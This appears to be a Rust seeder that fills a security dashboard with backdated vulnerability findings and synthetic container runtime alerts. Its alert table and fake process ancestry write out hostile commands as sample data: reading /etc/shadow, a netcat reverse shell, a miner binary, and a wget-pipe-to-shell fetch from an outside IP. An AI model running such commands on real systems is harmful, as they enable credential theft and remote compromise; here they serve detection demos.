//! What befell the example in the last three months.

use plimsoll_server::moment::{Millis, now};
use plimsoll_server::store::summaries::DAY;
use plimsoll_server::store::{Store, Write};
use sqlx::Row;

/// Findings were opened one after the other, some were resolved; sensors saw something now and then.
pub(super) async fn tell(store: &Store) {
    let mut write = store.write().await.unwrap();
    let rows = sqlx::query("SELECT id, kev FROM findings ORDER BY id").fetch_all(&mut *write).await;
    for row in rows.unwrap() {
        let id: i64 = row.try_get(0).unwrap();
        // Spread over the days by a step that has no divisor with them.
        let opened = now() - (id * 37 % 83 + 4) * DAY - id * 61_000;
        set(&mut write, "UPDATE findings SET opened_at = $2 WHERE id = $1", id, opened).await;
        let event = "UPDATE finding_events SET at = $2 WHERE finding_id = $1";
        set(&mut write, event, id, opened).await;
        if id % 9 == 0 {
            happens(&mut write, id, opened + 2 * DAY, "changed", "severity: medium → high").await;
        }
        let is_exploited = row.try_get::<i64, _>(1).unwrap() != 0;
        if id % 4 == 0 && !is_exploited && opened < now() - 9 * DAY {
            let at = opened + (id % 5 + 4) * DAY;
            let close = "UPDATE findings SET is_open = 0, resolved_at = $2 WHERE id = $1";
            set(&mut write, close, id, at).await;
            happens(&mut write, id, at, "resolved", "").await;
        }
    }
    for number in (0..140_i64).rev() {
        let at = now() - number * number * DAY / 800 - number * 7_000_000;
        let (rule, priority, name, command) = ALERTS[usize::try_from(number % 7).unwrap()];
        alert(&mut write, at, (rule, priority), (name, command), number % 5).await;
    }
    write.commit().await.unwrap();
}

async fn set(write: &mut Write, text: &'static str, id: i64, at: Millis) {
    sqlx::query(text).bind(id).bind(at).execute(&mut **write).await.unwrap();
}

async fn happens(write: &mut Write, id: i64, at: Millis, event: &str, detail: &str) {
    sqlx::query(
        "INSERT INTO finding_events (finding_id, at, event, cause, detail) \
         VALUES ($1, $2, $3, 'advisories', $4)",
    )
    .bind(id)
    .bind(at)
    .bind(event)
    .bind(detail)
    .execute(&mut **write)
    .await
    .unwrap();
}

/// Rule, priority, process and command.
const ALERTS: [(&str, &str, &str, &str); 7] = [
    ("Terminal shell in container", "Notice", "bash", "bash -i"),
    ("Read sensitive file untrusted", "Warning", "cat", "cat /etc/shadow"),
    ("Contact K8S API Server From Container", "Notice", "curl", "curl -sk https://10.96.0.1"),
    ("Drop and execute new binary in container", "Critical", "kinsing", "/tmp/kinsing"),
    ("Launch Package Management Process in Container", "Error", "apt-get", "apt-get install nmap"),
    ("Terminal shell in container", "Notice", "sh", "sh -c id"),
    ("Redirect STDOUT/STDIN to Network Connection in Container", "Critical", "nc", "nc -e /bin/sh"),
];

async fn alert(
    write: &mut Write,
    at: Millis,
    (rule, priority): (&str, &str),
    (name, command): (&str, &str),
    node: i64,
) {
    let image = "registry.example/shop/storefront:2.3";
    let output = format!(
        "{command} by {name} as root in storefront-legacy-6d5f (container=storefront namespace=shop \
         parent=node)"
    );
    let fields = serde_json::json!({
        "output_fields": {
            "proc.name": name, "proc.cmdline": command, "proc.pname": "node", "user.name": "root",
            "container.name": "storefront", "container.image.repository": image,
            "k8s.ns.name": "shop", "k8s.pod.name": "storefront-legacy-6d5f", "evt.type": "execve",
        },
        "explanation": {
            "conditions": [
                {"macro": "spawned_process", "holds": true, "because": [
                    {"condition": "evt.type in (execve, execveat)", "holds": true, "values": {"evt.type": "execve"}},
                ]},
                {"macro": "container", "holds": true, "because": [
                    {"condition": "container.id != host", "holds": true, "values": {"container.id": "3f1c9a0b7e52"}},
                ]},
                {"condition": format!("proc.name = {name}"), "holds": true, "values": {"proc.name": name}},
            ],
            "ancestry": [
                {"pid": 1, "name": "systemd", "command": "/sbin/init"},
                {"pid": 811, "name": "containerd-shim", "command": "containerd-shim-runc-v2 -namespace k8s.io"},
                {"pid": 4_120, "name": "node", "command": "node /srv/app/server.js"},
                {"pid": 9_377, "name": "sh", "command": "sh -c \"wget -qO- 198.51.100.7/x | sh\""},
                {"pid": 9_381, "name": name, "command": command},
            ],
        },
    });
    sqlx::query(
        "INSERT INTO runtime_alerts (day, at, rule, priority, source, hostname, image, output, \
         fields) VALUES ($1, $2, $3, $4, 'syscall', $5, $6, $7, $8)",
    )
    .bind(at / DAY)
    .bind(at)
    .bind(rule)
    .bind(priority)
    .bind(format!("node-{}", node + 1))
    .bind(image)
    .bind(output)
    .bind(fields.to_string())
    .execute(&mut **write)
    .await
    .unwrap();
}
